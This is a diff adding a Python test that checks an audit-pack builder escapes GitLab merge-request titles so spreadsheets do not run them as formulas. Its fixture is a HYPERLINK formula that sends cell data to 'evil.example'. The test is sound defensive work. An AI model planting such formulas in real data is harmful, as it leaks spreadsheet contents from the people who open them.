@@ -618,3 +618,21 @@ def test_an_mr_labelled_after_its_merge_is_not_overdue_in_the_pack(
     (tier,) = read_csv(tmp_path / "pack" / "sla-tiers.csv")
     assert (tier["tier"], tier["mrs"], tier["sla_breached"]) == ("high", "1", "0")
     assert tier["labeled_after_merge_or_close"] == "1"
+
+
+def test_a_title_a_spreadsheet_would_run_is_written_as_text(engine, tmp_path) -> None:
+    """GitLab titles are anyone's input, and auditors open population.csv in a
+    spreadsheet: a cell starting with =, +, -, @ gets an apostrophe; JSON stays exact."""
+    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"details")'
+    common: dict[str, Any] = {"iid": 7, "labels": ["sec::high"], "title": formula}
+    opened = mr_event("open", updated_at=at(12), created_at=at(12), **common)
+    merged = mr_event("merge", actor="carol", updated_at=at(13), created_at=at(12), **common)
+    assert fed(engine, opened) == "recorded"
+    assert fed(engine, merged) == "recorded"
+    build(engine, tmp_path / "pack")
+    (row,) = read_csv(tmp_path / "pack" / "population.csv")
+    assert row["title"] == "'" + formula
+    (exact,) = json.loads((tmp_path / "pack" / "population.json").read_text())
+    assert exact["title"] == formula
+    for line in (tmp_path / "pack" / "population.csv").read_text().splitlines()[1:]:
+        assert ',"=' not in line and not line.startswith("=")
